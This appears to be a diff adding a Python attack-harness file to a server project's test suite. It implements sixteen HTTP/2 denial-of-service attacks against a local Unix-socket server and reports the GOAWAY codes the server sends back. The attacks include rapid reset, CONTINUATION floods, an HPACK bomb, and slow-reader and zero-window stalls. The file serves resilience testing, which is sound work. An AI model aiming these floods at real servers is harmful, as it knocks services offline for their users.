@@ -1,0 +1,247 @@
+"""Ways to hurt an HTTP/2 server, each a program: `python attacks.py <name> <socket> <seconds> <uid>`.
+
+An attacker becomes that user, if it may, connects, sends as fast as it can until it is cut, and connects again. It prints what it saw, as JSON: how
+often it was connected and how often it was told to go, with the codes it was told.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import struct
+import sys
+import time
+from collections.abc import Callable, Iterator
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">HBBBL", len(payload) >> 8, len(payload) & 255, kind, flags, stream) + payload
+
+
+def field(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
+    return (b"\x40" if indexed else b"\x00") + _length(len(name)) + name + _length(len(value)) + value
+
+
+def _length(number: int) -> bytes:
+    return bytes((number,)) if number < 127 else bytes((127, (number - 127) & 127 | 128, (number - 127) >> 7))
+
+
+def request(method: bytes, *more: bytes) -> bytes:
+    """The header block of a call."""
+    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", method), (b":authority", b"localhost")]
+    fields += [(b"te", b"trailers"), (b"content-type", b"application/grpc")]
+    return b"".join(field(*each) for each in fields) + b"".join(more)
+
+
+HELLO = PREFACE + frame(SETTINGS, 0, 0)
+CALL = request(b"/test.Service/Echo")
+MESSAGE = b"\x00\x00\x00\x00\x02hi"
+
+
+def rapid_reset() -> Iterator[bytes]:
+    stream = 1
+    while True:
+        pieces = []
+        for _ in range(50):
+            pieces.append(frame(HEADERS, 4, stream, CALL) + frame(DATA, 1, stream, MESSAGE))
+            pieces.append(frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08"))
+            stream += 2
+        yield b"".join(pieces)
+
+
+def continuation_flood() -> Iterator[bytes]:
+    yield frame(HEADERS, 0, 1, CALL)
+    while True:
+        yield frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100)) * 100
+
+
+def empty_continuation_flood() -> Iterator[bytes]:
+    yield frame(HEADERS, 0, 1, CALL)
+    while True:
+        yield frame(CONTINUATION, 0, 1) * 1000
+
+
+def ping_flood() -> Iterator[bytes]:
+    while True:
+        yield frame(PING, 0, 0, b"12345678") * 1000
+
+
+def settings_flood() -> Iterator[bytes]:
+    while True:
+        yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 65535) * 50) * 100
+
+
+def empty_data_flood() -> Iterator[bytes]:
+    yield frame(HEADERS, 4, 1, CALL)
+    while True:
+        yield frame(DATA, 0, 1) * 1000
+
+
+def small_data_flood() -> Iterator[bytes]:
+    yield frame(HEADERS, 4, 1, CALL) + frame(DATA, 0, 1, b"\x00\x00\x3f\xff\xff")
+    while True:
+        yield frame(DATA, 0, 1, b"x") * 1000
+
+
+def padded_data_flood() -> Iterator[bytes]:
+    yield frame(HEADERS, 4, 1, CALL)
+    while True:
+        yield frame(DATA, 8, 1, b"\xff" + bytes(255)) * 100
+
+
+def window_update_flood() -> Iterator[bytes]:
+    yield frame(HEADERS, 4, 1, CALL)
+    while True:
+        yield frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01") * 1000
+
+
+def priority_flood() -> Iterator[bytes]:
+    while True:
+        yield frame(PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10") * 1000
+
+
+def hpack_bomb() -> Iterator[bytes]:
+    large = field(b"x-bomb", b"b" * 4000, indexed=True)
+    yield frame(HEADERS, 5, 1, request(b"/test.Service/Echo") + large)
+    stream = 3
+    while True:  # each byte stands for the four thousand
+        yield frame(HEADERS, 5, stream, CALL + b"\xbe" * 12000)
+        stream += 2
+
+
+def call_flood() -> Iterator[bytes]:
+    stream = 1
+    while True:
+        pieces = []
+        for _ in range(50):
+            pieces.append(frame(HEADERS, 4, stream, CALL) + frame(DATA, 1, stream, MESSAGE))
+            stream += 2
+        yield b"".join(pieces)
+
+
+def unknown_method_flood() -> Iterator[bytes]:
+    stream = 1
+    while True:
+        pieces = []
+        for _ in range(50):
+            pieces.append(frame(HEADERS, 5, stream, request(b"/no/Such")))
+            stream += 2
+        yield b"".join(pieces)
+
+
+def half_open_streams() -> Iterator[bytes]:
+    """As many calls as are allowed, each with all but the last byte of a large message; then silence."""
+    length = 1 << 20
+    for stream in range(1, 200, 2):
+        yield frame(HEADERS, 4, stream, CALL) + frame(DATA, 0, stream, b"\x00" + length.to_bytes(4, "big"))
+        for _ in range(length // 16384 - 1):
+            yield frame(DATA, 0, stream, bytes(16384))
+    while True:
+        yield b""
+
+
+def slow_reader() -> Iterator[bytes]:
+    """Ask for large answers, grant a window for all of them, and read nothing."""
+    yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\x00\x00")
+    block = request(b"/test.Service/Large")
+    for stream in range(1, 180, 2):
+        yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
+    while True:
+        yield b""
+
+
+def shut_window() -> Iterator[bytes]:
+    """Ask for large answers, and grant one byte of them."""
+    yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 1))
+    block = request(b"/test.Service/Large")
+    for stream in range(1, 180, 2):
+        yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
+    while True:
+        yield b""
+
+
+ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
+    attack.__name__: attack
+    for attack in (
+        rapid_reset,
+        continuation_flood,
+        empty_continuation_flood,
+        ping_flood,
+        settings_flood,
+        empty_data_flood,
+        small_data_flood,
+        padded_data_flood,
+        window_update_flood,
+        priority_flood,
+        hpack_bomb,
+        call_flood,
+        unknown_method_flood,
+        half_open_streams,
+        slow_reader,
+        shut_window,
+    )
+}
+
+
+def attack(name: str, path: str, seconds: float) -> dict[str, object]:
+    until = time.monotonic() + seconds
+    connected, told, codes = 0, 0, set()
+    while time.monotonic() < until:
+        with socket.socket(socket.AF_UNIX) as connection:
+            connection.settimeout(0.05)
+            try:
+                connection.connect(path)
+                connection.sendall(HELLO)
+                connected += 1
+                _send(connection, ATTACKS[name](), until)
+            except OSError:
+                pass
+            code = _goodbye(connection)
+            if code is not None:
+                told += 1
+                codes.add(code)
+    return {"connected": connected, "told": told, "codes": sorted(codes)}
+
+
+def _send(connection: socket.socket, pieces: Iterator[bytes], until: float) -> None:
+    for piece in pieces:
+        if time.monotonic() > until:
+            return
+        try:
+            connection.sendall(piece)
+        except TimeoutError:
+            return  # the server does not read any more: as good as cut
+        if not piece:
+            time.sleep(0.02)
+
+
+def _goodbye(connection: socket.socket) -> int | None:
+    """The code of the GOAWAY that came, if one did."""
+    received = b""
+    connection.settimeout(0.1)
+    try:
+        while piece := connection.recv(1 << 16):
+            received += piece
+            if len(received) > 1 << 20:
+                break
+    except OSError:
+        pass
+    at = 0
+    while at + 9 <= len(received):
+        size = int.from_bytes(received[at : at + 3], "big")
+        if received[at + 3] == GOAWAY:
+            return int.from_bytes(received[at + 13 : at + 17], "big")
+        at += 9 + size
+    return None
+
+
+if __name__ == "__main__":
+    if os.geteuid() == 0:
+        os.setuid(int(sys.argv[4]))
+    sys.stdout.write("ready\n")
+    sys.stdout.flush()
+    json.dump(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])), sys.stdout)
